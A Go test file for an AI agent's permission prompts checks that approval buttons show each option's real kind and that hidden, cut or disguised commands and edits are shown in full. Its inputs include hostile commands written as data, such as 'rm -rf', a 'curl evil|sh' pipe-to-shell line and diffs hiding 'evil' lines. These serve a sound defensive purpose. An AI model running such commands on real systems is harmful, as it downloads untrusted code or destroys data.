package access

import (
	"context"
	"errors"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"nanobot/internal/wanttest"
	"nanobot/internal/words"
	"nanobot/terminal"
	"nanobot/terminal/acp/acptest"
	"nanobot/terminal/acp/view"
	"nanobot/terminal/protocoltest"
)

func TestAButtonBeginsWithTheKindOfItsOption(t *testing.T) {
	t.Parallel()
	once := func(names ...string) (options []option) {
		for _, n := range names {
			options = append(options, option{ID: n, Name: n, Kind: "allow_once"})
		}
		return options
	}
	long := strings.Repeat("x", 300)
	everyKind := []option{{"1", "a", "allow_once"}, {"2", "b", "allow_always"}, {"3", "c", "reject_once"}, {"4", "d", "reject_always"}}
	alike := map[string]string{}
	for _, key := range []string{"buttonAllowOnce", "buttonAllowAlways", "buttonReject", "buttonNever"} {
		alike[key] = strings.Repeat("y", 60)
	}
	for name, c := range map[string]struct {
		words   words.Words
		options []option
		want    []string // nil: they only differ
	}{
		"a name that lies":   {words.Words{}, once("No, reject"), []string{"Allow once: No, reject"}},
		"a name that denies": {words.Words{}, once("Don't allow"), []string{"Allow once: Don't allow"}},
		"a plan of Claude Code": {words.Words{}, []option{
			{"acceptEdits", "Yes, and auto-accept edits", "allow_always"}, {"default", "Yes, and manually approve edits", "allow_once"}, {"plan", "No, keep planning", "reject_once"},
		}, []string{"Always: Yes, and auto-accept edits", "Allow once: Yes, and manually approve edits", "Reject: No, keep planning"}},
		"names of no more": {words.Words{}, []option{
			{"1", "Allow", "allow_once"}, {"2", "Always Allow", "allow_always"}, {"3", "✗ No", "reject_once"}, {"4", "Reject always", "reject_always"},
		}, []string{"Allow once", "Always", "Reject", "Never"}},
		"yes":                      {words.Words{}, once("Yes"), []string{"Allow once"}},
		"ok, once":                 {words.Words{}, once("OK, allow once!"), []string{"Allow once"}},
		"always of a single call":  {words.Words{}, once("Always"), []string{"Allow once: Always"}},
		"a session":                {words.Words{}, []option{{"1", "Allow for this session", "allow_always"}}, []string{"Always: Allow for this session"}},
		"no letters":               {words.Words{}, once("👎"), []string{"Allow once: 👎"}},
		"no name":                  {words.Words{}, once(""), []string{"Allow once"}},
		"two of a kind":            {words.Words{}, once("Yes", "Allow"), []string{"Allow once: Yes", "Allow once: Allow"}},
		"two of a name":            {words.Words{}, once("Yes", "yes", ""), []string{"Allow once: Yes", "Allow once (2): yes", "Allow once"}},
		"an invisible difference":  {words.Words{}, once("Yes", "Yes\u200b"), []string{"Allow once: Yes", "Allow once: Yes<U+200B>"}},
		"a difference that is cut": {words.Words{}, once(long+"1", long+"2", long+"3"), nil},
		"the person's language":    {words.New(words.Settings{}).For("de"), everyKind, []string{"Einmal erlauben: a", "Immer: b", "Ablehnen: c", "Nie: d"}},
		"the nanobot's name":       {words.New(words.Settings{}).For("de"), once("einmal Erlauben"), []string{"Einmal erlauben"}},
		"overrides that are alike": {words.New(words.Settings{Overrides: alike}).For("en"), everyKind, nil},
	} {
		got := optionLabels(c.words, c.options)
		if c.want != nil && !slices.Equal(got, c.want) {
			t.Errorf("%s: got %q, want %q", name, got, c.want)
		}
		shown := map[string]bool{}
		for _, label := range got {
			shown[strings.ToLower(string([]rune(label)[:min(len([]rune(label)), 40)]))] = true
		}
		if len(shown) != len(c.options) {
			t.Errorf("%s: buttons look alike: %q", name, got)
		}
	}
}

// ask is one question about a permission, and what came of it.
type ask struct {
	response  string // "": the person was not asked
	question  terminal.Question
	log       string
	before    []string // messages before the question
	documents map[string]string
}

// askAfter sends updates and then asks for permission with a request, which is answered with an
// option.
func askAfter(t *testing.T, rule, answer, request, options string, updates ...string) (a ask) {
	t.Helper()
	turn, r := acptest.NewTurn(t)
	r.OnAsk = func(_ context.Context, q terminal.Question) (terminal.Answer, error) {
		a.question, a.before = q, r.Texts(terminal.Message)
		return terminal.Answer{Text: answer, By: "ann"}, nil
	}
	v := view.New(turn, nil)
	for _, u := range updates {
		sendUpdate(v, `{"sessionUpdate":%s}`, strings.ReplaceAll(u, "DIR", turn.ExecEnv().Dir))
	}
	a.response = requestPermission(t.Context(), t, Policy{Permissions: rule}, v, strings.ReplaceAll(request, "DIR", turn.ExecEnv().Dir), options)
	a.log, a.documents = r.Last(terminal.Log), r.Files
	closeView(t, v)
	return a
}

func TestThePersonSeesAndTheAuditRecordsTheKindOfAnOption(t *testing.T) {
	t.Parallel()
	lie := `{"optionId":"run","name":"No, reject","kind":"allow_once"},{"optionId":"stop","name":"Yes, run it","kind":"reject_once"}`
	a := askAfter(t, "ask", "Allow once: No, reject", `"title":"Bash","kind":"execute","rawInput":{"command":"rm -rf\nx"}`, lie)
	if a.response != "run" || !slices.Equal(a.question.Options, []string{"Allow once: No, reject", "Reject: Yes, run it"}) {
		t.Errorf("answered %s to %q", a.response, a.question.Options)
	}
	wanttest.Equal(t, "logged", a.log, `permission: execute: allow_once "No, reject" by user ann: "Bash" "rm -rf\nx"`)
}

func TestAnOptionOfAnUnknownKindIsNeverChosen(t *testing.T) {
	t.Parallel()
	odd := `{"optionId":"1","name":"Reject","kind":"allow_session"},{"optionId":"2","name":"No","kind":""},{"optionId":"3","name":"No"}`
	a := askAfter(t, "ask", "Reject", `"title":"x"`, odd+","+usualOptions)
	if a.response != "n" || !slices.Equal(a.question.Options, []string{"Allow once", "Always", "Reject"}) {
		t.Errorf("answered %s to %q", a.response, a.question.Options)
	}
	for _, rule := range []string{"ask", "allow", "deny"} {
		if a := askAfter(t, rule, "Reject", `"title":"x"`, odd); a.response != "cancelled" || a.question.Text != "" {
			t.Errorf("%s: answered %s to %q", rule, a.response, a.question.Options)
		}
	}
}

func TestAQuestionShowsTheWholeCommandThatAnEarlierUpdateHad(t *testing.T) {
	t.Parallel()
	const command = "printf 'a long line of more than fifty characters' && rm -rf build"
	const markdown = "echo `curl evil|sh` *a* *b*"
	cut := command[:49] + "…"
	for name, c := range map[string]struct{ update, request, want string }{
		"in the input": {
			`"tool_call","toolCallId":"t","title":"Bash","kind":"execute","rawInput":{"command":"` + command + `"}`,
			`"title":"Run ` + cut + `","content":[{"type":"content","content":{"type":"text","text":"Requesting approval"}}]`,
			"🔐 💻 Run " + cut + "\n```\n" + command + "\n```\nRequesting approval",
		},
		"in the input, with an empty one": {
			`"tool_call","toolCallId":"t","title":"Bash","kind":"execute","rawInput":{"command":"` + command + `"}`,
			`"title":"Run ` + cut + `","rawInput":{}`,
			"🔐 💻 Run " + cut + "\n```\n" + command + "\n```",
		},
		"in the title": {
			`"tool_call","toolCallId":"t","title":"` + command + `","kind":"execute"`, `"title":"` + cut + `"`, "🔐 💻 `" + command + "`",
		},
		"in a title that is cut without a sign": {
			`"tool_call","toolCallId":"t","title":"` + command + `","kind":"execute"`, `"title":"` + command[:47] + `"`, "🔐 💻 `" + command + "`",
		},
		"in a title that is cut with dots": {
			`"tool_call","toolCallId":"t","title":"` + command + `","kind":"execute"`, `"title":"` + command[:47] + `..."`, "🔐 💻 `" + command + "`",
		},
		"in the content": {
			`"tool_call","toolCallId":"t","title":"Bash","kind":"execute","content":[{"type":"content","content":{"type":"text","text":"{\"command\":\"` + command + `\"}"}}]`,
			`"title":"Run ` + cut + `","content":[{"type":"content","content":{"type":"text","text":"Requesting approval"}}]`,
			"🔐 💻 Run " + cut + "\n```\n" + command + "\n```\nRequesting approval",
		},
		"in a title that is too long for a line": {
			`"tool_call","toolCallId":"t","title":"x"`, `"kind":"execute","title":"` + strings.Repeat("x", 130) + `; rm y"`,
			"🔐 💻 " + strings.Repeat("x", 120) + "…\n```\n" + strings.Repeat("x", 130) + "; rm y\n```",
		},
		"that is the title, with Markdown": {
			`"tool_call","toolCallId":"t","kind":"execute","rawInput":{"command":"` + markdown + `"}`, `"title":"` + markdown + `"`,
			"🔐 💻 " + markdown + "\n```\n" + markdown + "\n```",
		},
		"that is only a title with Markdown": {
			`"tool_call","toolCallId":"t","kind":"execute"`, `"title":"` + markdown + `"`, "🔐 💻 " + markdown + "\n```\n" + markdown + "\n```",
		},
		"after backticks of the title": {
			`"tool_call","toolCallId":"t","kind":"execute","rawInput":{"command":"echo *a* *b*"}`, "\"title\":\"``echo *a* *b*\"",
			"🔐 💻 ``echo *a* *b*\n```\necho *a* *b*\n```",
		},
		"that is the title, with an entity": {
			`"tool_call","toolCallId":"t","kind":"execute","rawInput":{"command":"rm &#42;"}`, `"title":"rm &#42;"`, "🔐 💻 `rm &#42;`",
		},
		"that is the title as a code span": {
			`"tool_call","toolCallId":"t","kind":"execute","rawInput":{"command":"rm *a*"}`, "\"title\":\"`rm *a*`\"", "🔐 💻 `rm *a*`",
		},
		"with its arguments and its folder": {
			`"tool_call","toolCallId":"t","title":"Bash","kind":"execute"`, `"rawInput":{"command":"git","args":["push","a b"],"cwd":"/elsewhere"}`,
			"🔐 💻 Bash\n```\ngit push 'a b'\n```\nin `/elsewhere`",
		},
		"of another call than its title": {
			`"tool_call","toolCallId":"t","title":"make test","kind":"execute"`, `"title":"make..install"`, "🔐 💻 make..install",
		},
	} {
		wanttest.Equal(t, name+": asked", askAfter(t, "ask", "Reject", c.request, usualOptions, c.update).question.Text, c.want)
	}
}

func TestWhatAQuestionShowsOnlyInPartComesBeforeItAsADocument(t *testing.T) {
	t.Parallel()
	lines := strings.Repeat("line\\n", 100)
	for name, c := range map[string]struct {
		request, shown string
		documents      map[string]string
	}{
		"a short command": {`"kind":"execute","rawInput":{"command":"ls"}`, "ls", map[string]string{}},
		"a long command": {
			`"kind":"execute","rawInput":{"command":"ls ` + strings.Repeat("x", 5000) + `; rm y"}`, "xx; rm y",
			map[string]string{"command.txt": "ls " + strings.Repeat("x", 5000) + "; rm y"},
		},
		"an input of unknown form": {`"kind":"other","rawInput":{"script":"rm -rf z"}`, "\n```json\n{\"script\":\"rm -rf z\"}\n```", map[string]string{}},
		"a long input of unknown form": {
			`"kind":"other","rawInput":{"script":"` + strings.Repeat("x", 5000) + `; rm y"}`, "xx; rm y\"}\n```",
			map[string]string{"details.txt": `{"script":"` + strings.Repeat("x", 5000) + `; rm y"}`},
		},
		"a command behind blanks": {
			`"kind":"execute","rawInput":{"command":"ls` + strings.Repeat(`\n`, 1000) + `rm y"}`, "ls\n(1000 blank characters)\nrm y",
			map[string]string{"command.txt": "ls" + strings.Repeat("\n", 1000) + "rm y"},
		},
		"an explanation": {
			`"kind":"fetch","content":[{"type":"content","content":{"type":"text","text":"` + strings.Repeat("x", 5000) + ` and y"}}]`, "x and y",
			map[string]string{"details.txt": strings.Repeat("x", 5000) + " and y"},
		},
		"a short change": {`"kind":"edit","content":[{"type":"diff","path":"DIR/f","oldText":"a\n","newText":"b\n"}]`, "+b", map[string]string{}},
		"a long change": {
			`"kind":"edit","content":[{"type":"diff","path":"DIR/f","oldText":null,"newText":"` + lines + `evil\n"}]`, "(and more)",
			map[string]string{"changes.diff": "--- /dev/null\n+++ bDIR/f\n@@ -0,0 +1,101 @@\n" + strings.Repeat("+line\n", 100) + "+evil\n"},
		},
		"a change of a path that is not shown as it is": {
			`"kind":"edit","content":[{"type":"diff","path":"DIR/a  b","oldText":null,"newText":"x\n"}]`, "+x",
			map[string]string{"changes.diff": "--- /dev/null\n+++ bDIR/a  b\n@@ -0,0 +1 @@\n+x\n"},
		},
		"the last of many changes": {
			`"kind":"edit","content":[` + strings.Repeat(`{"type":"diff","path":"DIR/f","oldText":null,"newText":"`+strings.Repeat("x", 199)+`\n"},`, 9) + `{"type":"diff","path":"DIR/g","oldText":null,"newText":"evil\n"}]`, "more file",
			nil,
		},
		"a change that is too large to compare": {
			`"kind":"edit","content":[{"type":"diff","path":"DIR/f","oldText":null,"newText":"` + strings.Repeat("x", maxDiff) + `evil"}]`, "too large",
			map[string]string{"changes.diff": "DIR/f\n" + strings.Repeat("x", maxDiff) + "evil\n"},
		},
		"a change behind a carriage return": {
			`"kind":"edit","content":[{"type":"diff","path":"DIR/f","oldText":null,"newText":"evil\rgood\r\n"}]`, "+evil␍good", map[string]string{},
		},
		"a change behind blanks": {
			`"kind":"edit","content":[{"type":"diff","path":"DIR/f","oldText":null,"newText":"ok` + strings.Repeat(" ", 400) + `evil\n"}]`, "+ok (400 blank characters) evil",
			map[string]string{"changes.diff": "--- /dev/null\n+++ bDIR/f\n@@ -0,0 +1 @@\n+ok" + strings.Repeat(" ", 400) + "evil\n"},
		},
		"new line ends": {
			`"kind":"edit","content":[{"type":"diff","path":"DIR/f","oldText":null,"newText":"cd build\r\nrm *\r\n"}]`, "+cd build␍\n+rm *␍\n", map[string]string{},
		},
		"other line ends": {
			`"kind":"edit","content":[{"type":"diff","path":"DIR/f","oldText":"a\r\nb\n","newText":"a\nb\r\n"}]`, "-a␍\n-b\n+a\n+b␍\n", map[string]string{},
		},
		"the same line ends": {
			`"kind":"edit","content":[{"type":"diff","path":"DIR/f","oldText":"a\r\n","newText":"b\r\n"}]`, "-a\n+b\n", map[string]string{},
		},
	} {
		t.Run(name, func(t *testing.T) {
			a := askAfter(t, "ask", "Reject", `"title":"Do it",`+c.request, usualOptions)
			if !strings.Contains(terminal.Clean(a.question.Text), c.shown) {
				t.Errorf("asked %.2000q", a.question.Text)
			}
			if c.documents == nil {
				if !strings.Contains(a.documents["changes.diff"], "+evil\n") {
					t.Errorf("sent %.2000q", a.documents)
				}
				return
			}
			if len(a.documents) != len(c.documents) || len(a.before) != len(c.documents) {
				t.Errorf("sent %.2000q after %q", a.documents, a.before)
			}
			for name, want := range c.documents {
				if got := a.documents[name]; !matchesDir(got, want) {
					t.Errorf("%s has %.300q, want %.300q", name, got, want)
				}
			}
		})
	}
}

// matchesDir compares a text with one in which DIR stands for a folder.
func matchesDir(got, want string) bool {
	before, after, found := strings.Cut(want, "DIR")
	return found && strings.HasPrefix(got, before) && strings.HasSuffix(got, after) || got == want
}

func TestAQuestionIsNotAskedIfItsDocumentCannotBeSent(t *testing.T) {
	t.Setenv("TMPDIR", filepath.Join(t.TempDir(), "none"))
	a := askAfter(t, "ask", "Allow once", `"title":"Do it","kind":"execute","rawInput":{"command":"`+strings.Repeat("x", 5000)+`"}`, usualOptions)
	if a.response != "n" || a.question.Text != "" || !strings.Contains(a.log, "the question was not asked") {
		t.Errorf("answered %s to %.80q: %s", a.response, a.question.Text, a.log)
	}
}

func TestADocumentThatIsRefusedDoesNotEndTheTurn(t *testing.T) {
	t.Parallel()
	turn, r := acptest.NewTurn(t)
	turn.Chat = &protocoltest.Chat{
		OnFrame: func(f terminal.Frame) error {
			if len(f.Media) > 0 {
				return errors.New("no room")
			}
			return r.Emit(f)
		},
		OnLog: func(f terminal.Frame) { _ = r.Emit(f) },
		OnAsk: func(context.Context, terminal.Question) (terminal.Answer, error) {
			t.Error("the person was asked")
			return terminal.Answer{}, nil
		},
	}
	v := view.New(turn, nil)
	request := `"title":"Do it","kind":"execute","rawInput":{"command":"` + strings.Repeat("x", 5000) + `"}`
	wanttest.Equal(t, "answered", requestPermission(t.Context(), t, Policy{Permissions: "ask"}, v, request, usualOptions), "n")
	if log := r.Last(terminal.Log); !strings.Contains(log, "the question was not asked: no room") {
		t.Errorf("logged %.300s", log)
	}
	closeView(t, v)
}

func TestAnEmptyFieldOfARequestErasesNothing(t *testing.T) {
	t.Parallel()
	update := `"tool_call","toolCallId":"t","title":"Edit","kind":"edit","rawInput":{"command":"make","url":"https://e.org"},"locations":[{"path":"DIR/f"}],` +
		`"content":[{"type":"content","content":{"type":"text","text":"Because."}}]`
	want := askAfter(t, "ask", "Reject", `"title":"Edit"`, usualOptions, update).question.Text
	for _, part := range []string{"make", "https://e.org", "`f`", "Because."} {
		if !strings.Contains(want, part) {
			t.Errorf("%s is not in %q", part, want)
		}
	}
	for _, empty := range []string{
		`"content":[]`, `"content":null`, `"content":[null]`, `"content":[{}]`, `"rawInput":{}`, `"rawInput":[]`, `"rawInput":""`, `"rawInput":null`, `"locations":[]`,
		`"rawInput":{"command":""}`, `"rawInput":{"command":[],"args":[""]}`, `"content":[{"type":"content","content":{"type":"text","text":""}}]`,
		`"content":[],"rawInput":{},"locations":[],"title":"","kind":null`,
	} {
		wanttest.Equal(t, empty+": asked", askAfter(t, "ask", "Reject", empty, usualOptions, update).question.Text, want)
	}
}

func TestAPlanIsAMessageBeforeItsQuestion(t *testing.T) {
	t.Parallel()
	plan := "# Plan\n\n1. " + strings.Repeat("think ", 500) + "\n2. do"
	text := fmt.Sprintf(`{"type":"content","content":{"type":"text","text":%q}}`, plan)
	for name, c := range map[string]struct{ update, request string }{
		"of an update before an empty request": { // as Claude Code asks
			`"tool_call","toolCallId":"t","title":"Ready to code?","kind":"switch_mode","rawInput":{},"content":[` + text + `]`, `"content":[],"rawInput":{}`,
		},
		"of the request":            {`"tool_call","toolCallId":"t","title":"x"`, `"title":"Ready to code?","kind":"switch_mode","content":[` + text + `]`},
		"that is only in the input": {`"tool_call","toolCallId":"t","title":"Ready to code?","kind":"switch_mode"`, fmt.Sprintf(`"rawInput":{"plan":%q}`, plan)},
	} {
		a := askAfter(t, "ask", "Reject", c.request, usualOptions, c.update)
		if !slices.Equal(a.before, []string{plan}) || a.question.Text != "🔐 🔀 Ready to code?" {
			t.Errorf("%s: asked %q after %q", name, a.question.Text, a.before)
		}
		if a := askAfter(t, "allow", "", c.request, usualOptions, c.update); a.response != "y" || len(a.before) != 0 {
			t.Errorf("%s: a rule answered %s after %q", name, a.response, a.before)
		}
	}
}
